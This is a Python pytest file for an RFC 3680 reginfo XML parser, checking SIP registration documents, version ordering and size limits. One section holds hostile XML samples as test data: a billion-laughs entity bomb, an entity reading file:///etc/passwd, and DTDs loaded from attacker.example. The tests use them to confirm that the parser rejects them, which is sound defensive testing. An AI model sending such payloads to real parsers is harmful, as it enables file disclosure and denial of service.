"""RFC 3680 reginfo documents: the reader (hostile input) and BindingView (§5.2 order)."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sipprofile.server.sip.reginfo import (
    MAX_BYTES,
    MAX_DEPTH,
    MAX_ELEMENTS,
    BindingView,
    ContactInfo,
    News,
    Reginfo,
    ReginfoError,
    RegistrationInfo,
    parse_reginfo,
)

NS = "urn:ietf:params:xml:ns:reginfo"

# RFC 3680 §5.4: a full document, one AOR, a registered and an expired contact.
RFC3680_FULL = b"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo"
    version="0" state="full">
  <registration aor="sip:user@example.com" id="as9"
     state="active">
    <contact id="76" state="active" event="registered"
       duration-registered="7322"
       q="0.8">
            <uri>sip:user@pc887.example.com</uri>
    </contact>
    <contact id="77" state="terminated" event="expired"
       duration-registered="3600"
       q="0.5">
            <uri>sip:user@university.edu</uri>
    </contact>
  </registration>
</reginfo>
"""

# RFC 3680 §6: the flow's first NOTIFY (nothing registered yet), then the partial one
# after joe registered.
RFC3680_INIT = b"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full">
  <registration aor="sip:joe@example.com" id="a7" state="init" />
</reginfo>
"""
RFC3680_REGISTERED = b"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="1" state="partial">
  <registration aor="sip:joe@example.com" id="a7" state="active">
    <contact id="76" state="active" event="registered" duration-registered="0">
      <uri>sip:joe@pc34.example.com</uri>
    </contact>
  </registration>
</reginfo>
"""

# What an S-CSCF sends (TS 24.229): an implicit registration set, GRUUs of RFC 5628 in
# their own namespace, the RFC 3680 extension elements, a foreign attribute.
IMS_FULL = b"""<?xml version="1.0" encoding="UTF-8"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo"
         xmlns:gr="urn:ietf:params:xml:ns:gruuinfo"
         xmlns:x="urn:example:vendor" version="4" state="full">
  <registration aor="sip:+15551234@ims.example.net" id="r1" state="active">
    <contact id="c1" state="active" event="shortened" expires="120" x:flag="1"
             callid="abc" cseq="7">
      <uri>sip:3f2a@192.0.2.10:5062</uri>
      <display-name>Alice's phone</display-name>
      <unknown-param name="+sip.instance">"&lt;urn:uuid:00000000-0000&gt;"</unknown-param>
      <gr:pub-gruu uri="sip:+15551234@ims.example.net;gr=urn:uuid:0"/>
      <x:whatever><contact id="nope"/><uri>sip:evil@x</uri></x:whatever>
    </contact>
  </registration>
  <registration aor="tel:+15551234" id="r2" state="terminated">
    <contact id="c2" state="terminated" event="probation" retry-after="30">
      <uri>sip:3f2a@192.0.2.10:5062</uri>
    </contact>
  </registration>
  <x:registration aor="sip:not@counted" id="r3" state="active"/>
</reginfo>
"""


def document(*registrations: str, version: int = 0, state: str = "full") -> bytes:
    inner = "".join(registrations)
    return f'<reginfo xmlns="{NS}" version="{version}" state="{state}">{inner}</reginfo>'.encode()


def registration(
    *contacts: str, aor: str = "sip:a@example.com", rid: str = "r", state: str = "active"
) -> str:
    return (
        f'<registration aor="{aor}" id="{rid}" state="{state}">{"".join(contacts)}</registration>'
    )


def contact(
    uri: str = "sip:ue@192.0.2.1",
    cid: str = "c",
    state: str = "active",
    event: str = "registered",
    extra: str = "",
) -> str:
    return f'<contact id="{cid}" state="{state}" event="{event}" {extra}><uri>{uri}</uri></contact>'


def test_rfc3680_full_example() -> None:
    doc = parse_reginfo(RFC3680_FULL)
    assert doc == Reginfo(
        0,
        "full",
        (
            RegistrationInfo(
                "sip:user@example.com",
                "as9",
                "active",
                (
                    ContactInfo("76", "active", "registered", "sip:user@pc887.example.com", None),
                    ContactInfo("77", "terminated", "expired", "sip:user@university.edu", None),
                ),
            ),
        ),
    )


def test_rfc3680_flow_documents_full_then_partial() -> None:
    init = parse_reginfo(RFC3680_INIT)
    assert init == Reginfo(0, "full", (RegistrationInfo("sip:joe@example.com", "a7", "init", ()),))
    partial = parse_reginfo(RFC3680_REGISTERED)
    assert (partial.version, partial.state) == (1, "partial")
    [reg] = partial.registrations
    assert reg.contacts == (
        ContactInfo("76", "active", "registered", "sip:joe@pc34.example.com", None),
    )


def test_other_namespaces_and_extension_elements_are_ignored() -> None:
    doc = parse_reginfo(IMS_FULL)
    assert doc.version == 4
    first, second = doc.registrations  # x:registration is not one
    assert first.contacts == (
        ContactInfo("c1", "active", "shortened", "sip:3f2a@192.0.2.10:5062", 120),
    )
    assert second == RegistrationInfo(
        "tel:+15551234",
        "r2",
        "terminated",
        (ContactInfo("c2", "terminated", "probation", "sip:3f2a@192.0.2.10:5062", None, 30),),
    )


def test_a_prefixed_reginfo_namespace_reads_the_same() -> None:
    prefixed = (
        b'<r:reginfo xmlns:r="urn:ietf:params:xml:ns:reginfo" version="2" state="partial">'
        b'<r:registration aor="sip:a@b" id="x" state="active"><r:contact id="1" state="active"'
        b' event="created"><r:uri> sip:ue@h </r:uri></r:contact></r:registration></r:reginfo>'
    )
    doc = parse_reginfo(prefixed)
    assert doc.registrations[0].contacts[0].uri == "sip:ue@h"  # XML whitespace trimmed


@pytest.mark.parametrize(
    "body",
    [
        b"<reginfo version='0' state='full'/>",  # no namespace
        b"<reginfo xmlns='urn:other' version='0' state='full'/>",
        b"<x:reginfo xmlns:x='urn:ietf:params:xml:ns:reginfo:x' version='0' state='full'/>",
    ],
)
def test_the_root_must_be_reginfo_in_its_namespace(body: bytes) -> None:
    with pytest.raises(ReginfoError, match="root element"):
        parse_reginfo(body)


@pytest.mark.parametrize(
    ("body", "missing"),
    [
        (f'<reginfo xmlns="{NS}" state="full"/>'.encode(), "version"),
        (f'<reginfo xmlns="{NS}" version="1"/>'.encode(), "state"),
        (document('<registration id="r" state="active"/>'), "aor"),
        (document('<registration aor="sip:a@b" state="active"/>'), "id"),
        (document('<registration aor="sip:a@b" id="r"/>'), "state"),
        (
            document(
                registration('<contact state="active" event="created"><uri>sip:a@b</uri></contact>')
            ),
            "id",
        ),
        (
            document(registration('<contact id="1" event="created"><uri>sip:a@b</uri></contact>')),
            "state",
        ),
        (
            document(registration('<contact id="1" state="active"><uri>sip:a@b</uri></contact>')),
            "event",
        ),
    ],
)
def test_missing_mandatory_attributes_are_errors(body: bytes, missing: str) -> None:
    with pytest.raises(ReginfoError, match=f"no {missing} attribute"):
        parse_reginfo(body)


@pytest.mark.parametrize(
    "body",
    [
        document(version=0, state="Full"),
        document(registration(state="pending")),
        document(registration(contact(state="gone"))),
        document(registration(contact(event="moved"))),
        document(version=-1),
        document(registration(contact(extra='expires="1.5"'))),
        document(registration(contact(extra='retry-after="x"'))),
        document(registration(contact(extra='expires="' + "9" * 21 + '"'))),
    ],
)
def test_unknown_values_and_bad_numbers_are_errors(body: bytes) -> None:
    with pytest.raises(ReginfoError):
        parse_reginfo(body)


def test_a_contact_needs_exactly_one_uri() -> None:
    with pytest.raises(ReginfoError, match="no <uri>"):
        parse_reginfo(document(registration('<contact id="1" state="active" event="created"/>')))
    uris = "<uri>sip:a@b</uri><uri>sip:c@d</uri>"
    twice = f'<contact id="1" state="active" event="created">{uris}</contact>'
    with pytest.raises(ReginfoError, match="more than one"):
        parse_reginfo(document(registration(twice)))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full">
 <registration aor="sip:a@b" id="&lol9;" state="active"/>
</reginfo>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE reginfo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full">
 <registration aor="sip:a@b" id="&xxe;" state="active"/>
</reginfo>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE reginfo SYSTEM "http://attacker.example/reginfo.dtd">
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE reginfo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full"/>
"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, b"<!DOCTYPE reginfo><a/>"],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "bare"],
)
def test_doctype_and_entities_are_refused_outright(body: bytes) -> None:
    with pytest.raises(ReginfoError, match="DOCTYPE"):
        parse_reginfo(body)


def test_an_undeclared_entity_is_an_error_not_an_expansion() -> None:
    with pytest.raises(ReginfoError, match="undefined entity"):
        parse_reginfo(document(registration(aor="&xxe;")))


def test_the_encoding_is_utf8_whatever_the_declaration_says() -> None:
    text = document(registration(contact(uri="sip:café@h"))).decode()
    latin1 = ('<?xml version="1.0" encoding="ISO-8859-1"?>' + text).encode("latin-1")
    with pytest.raises(ReginfoError, match="well-formed"):
        parse_reginfo(latin1)
    with pytest.raises(ReginfoError):
        parse_reginfo(b'<?xml version="1.0" encoding="x-no-such-codec"?><a/>')
    utf8 = parse_reginfo(document(registration(contact(uri="sip:café@h"))))
    assert utf8.registrations[0].contacts[0].uri == "sip:café@h"


def test_size_limit() -> None:
    body = document(registration(contact()))
    padded = body + b" " * (MAX_BYTES - len(body))
    assert len(parse_reginfo(padded).registrations) == 1
    with pytest.raises(ReginfoError, match="exceeds the limit"):
        parse_reginfo(padded + b" ")


FOREIGN = f'<reginfo xmlns="{NS}" xmlns:x="urn:x" version="0" state="full">{{}}</reginfo>'


def test_element_count_limit() -> None:
    def foreign(n: int) -> bytes:
        return FOREIGN.format("<x:a/>" * n).encode()

    assert parse_reginfo(foreign(MAX_ELEMENTS - 1)).registrations == ()
    with pytest.raises(ReginfoError, match="elements"):
        parse_reginfo(foreign(MAX_ELEMENTS))


def test_depth_limit() -> None:
    def nested(depth: int) -> bytes:  # reginfo itself is depth 1
        inner = "<x:a>" * (depth - 1) + "</x:a>" * (depth - 1)
        return FOREIGN.format(inner).encode()

    parse_reginfo(nested(MAX_DEPTH))
    with pytest.raises(ReginfoError, match="deeper"):
        parse_reginfo(nested(MAX_DEPTH + 1))


@pytest.mark.parametrize("body", [b"", b"<", b"\xff\xfe\x00", b"<reginfo", b"text", b"<a></b>"])
def test_malformed_input_is_a_reginfo_error(body: bytes) -> None:
    with pytest.raises(ReginfoError):
        parse_reginfo(body)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_arbitrary_bytes_raise_only_reginfo_error(body: bytes) -> None:
    with contextlib.suppress(ReginfoError):
        parse_reginfo(body)


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_damaged_documents_raise_only_reginfo_error(data: st.DataObject) -> None:
    body = bytearray(IMS_FULL)
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(body) - 1))
        if data.draw(st.booleans()):
            body[at] = data.draw(st.integers(0, 255))
        else:
            del body[at:]
            break
    try:
        result = parse_reginfo(bytes(body))
    except ReginfoError:
        return
    assert isinstance(result, Reginfo)


# ---------------------------------------------------------------- BindingView (§5.2)

OURS = "sip:3f2a@192.0.2.10:5062"
AOR = "sip:alice@ims.example.net"


def doc(
    version: int, *contacts: str, state: str = "full", reg_state: str = "active", aor: str = AOR
) -> Reginfo:
    return parse_reginfo(
        document(registration(*contacts, aor=aor, state=reg_state), version=version, state=state)
    )


def test_view_reports_our_contact_and_ignores_other_ues() -> None:
    view = BindingView(AOR, OURS)
    news = view.apply(
        doc(
            0,
            contact(uri="sip:other@198.51.100.7", cid="x", state="terminated", event="deactivated"),
            contact(uri="SIP:3f2a@192.0.2.10:5062;ob", cid="o", event="registered"),
        )
    )
    # the same URI as ours in another spelling (RFC 3261 §19.1.4); the other UE ignored
    assert [c.id for c in news.contacts] == ["o"]
    assert view.version == 0


def test_view_partial_applies_on_top_of_the_previous_version_only() -> None:
    view = BindingView(AOR, OURS)
    view.apply(doc(0, contact(uri=OURS, cid="o")))
    shortened = contact(uri=OURS, cid="o", event="shortened", extra='expires="60"')
    news = view.apply(doc(1, shortened, state="partial"))
    assert [(c.event, c.expires) for c in news.contacts] == [("shortened", 60)]
    assert view.apply(doc(1, shortened, state="partial")) == News()  # equal: old news
    assert view.apply(doc(0, shortened)) == News()  # lower, even full


def test_view_gap_waits_for_a_full_document() -> None:
    view = BindingView(AOR, OURS)
    view.apply(doc(0, contact(uri=OURS, cid="o")))
    gone = contact(uri=OURS, cid="o", state="terminated", event="deactivated")
    assert view.apply(doc(2, gone, state="partial")) == News(need_full=True)
    assert view.apply(doc(3, gone, state="partial")) == News()  # asked once per gap
    assert view.version == 0
    news = view.apply(doc(4, gone))
    assert [c.event for c in news.contacts] == ["deactivated"]
    assert view.apply(doc(5, gone, state="partial")).contacts == ()  # nothing new


def test_view_first_document_partial_is_a_gap() -> None:
    view = BindingView(AOR, OURS)
    assert view.apply(doc(7, contact(uri=OURS), state="partial")).need_full


def test_view_full_restatement_is_not_news_but_a_change_is() -> None:
    view = BindingView(AOR, OURS)
    shortened = contact(uri=OURS, cid="o", event="shortened", extra='expires="60"')
    assert len(view.apply(doc(0, shortened)).contacts) == 1
    assert view.apply(doc(1, shortened)).contacts == ()
    assert len(view.apply(doc(2, contact(uri=OURS, cid="o", event="refreshed"))).contacts) == 1


def test_view_registration_of_our_aor_terminated_without_our_contact() -> None:
    view = BindingView(AOR, OURS)
    assert view.apply(doc(0, reg_state="terminated")).registration_ended
    assert not view.apply(doc(1, reg_state="terminated")).registration_ended  # known
    other = BindingView("sip:bob@ims.example.net", OURS)
    assert not other.apply(doc(0, reg_state="terminated")).registration_ended


def test_view_tel_aor_compared_as_text_and_sip_aor_by_equivalence() -> None:
    tel = BindingView("tel:+15551234", OURS)
    assert tel.apply(doc(0, reg_state="terminated", aor="tel:+15551234")).registration_ended
    sip = BindingView("sip:alice@IMS.example.net", OURS)
    assert sip.apply(doc(0, reg_state="terminated")).registration_ended
